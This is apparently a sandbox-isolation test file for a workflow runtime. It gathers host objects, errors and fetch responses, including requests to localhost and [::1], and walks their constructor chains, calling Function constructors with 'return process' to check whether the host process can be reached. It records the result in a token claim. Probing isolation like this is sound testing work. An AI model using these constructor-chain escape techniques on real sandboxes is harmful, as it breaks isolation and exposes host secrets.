// SBX-40 | completed | constructor chains through functions, errors and answers that come from the host
// claims: {"permissions":["read:reports"],"feature_flags":{},"escaped":[]}
export const workflowSettings = { id: 'sbx-40-constructor-chains', trigger: 'user:tokens_generation' }

export default async function () {
  const escaped = []
  const roots = [[], () => {}, async () => {}, function* () {}, new Error('x'), console.log, kinde.fetch, kinde.env.get, setTimeout, crypto, Intl.NumberFormat]
  const failures = [
    () => kinde.fetch('http://127.0.0.1/'),
    () => kinde.fetch(Symbol('x')),
    () => kinde.fetch('http://127.0.0.1/').json,
    () => kinde.secureFetch('https://[::1]/', { method: 'POST', body: 'x' }),
    () => kinde.cache.jwtToken('name', { onMissingOrExpired: () => 1 }),
    () => kinde.accessToken.setCustomClaim(Symbol('x'), 1),
    () => new Intl.NumberFormat('no such locale!'),
    () => new Intl.DateTimeFormat('en', { timeZone: 'Nowhere/Land' }),
    () => crypto.getRandomValues(new Uint8Array(1e6)),
    () => crypto.subtle.importKey('raw', 1, 2, 3, 4),
    () => new URL('no address'),
    () => structuredClone(() => 1),
    () => atob('%%%'),
    () => setTimeout(1),
    () => new (async () => {}).constructor('return process')(),
  ]
  for (const fail of failures) {
    try {
      roots.push(await fail())
    } catch (error) {
      roots.push(error, error.stack, error.cause, Object.getPrototypeOf(error))
    }
  }
  roots.push(await kinde.fetch(kinde.env.get('ALLOWED').value), await fetch(kinde.env.get('ALLOWED').value), kinde.env.get('ALLOWED'))
  for (const root of roots) {
    for (let link = root, step = 0; link !== null && link !== undefined && step < 10; step++) {
      for (const source of ['return process', 'return globalThis.process', 'return this.constructor']) {
        try {
          const made = link.constructor.constructor(source)()
          if (made !== undefined) escaped.push(source)
        } catch {
          continue
        }
      }
      link = link.constructor
    }
  }
  kinde.accessToken.setCustomClaim('escaped', escaped)
}
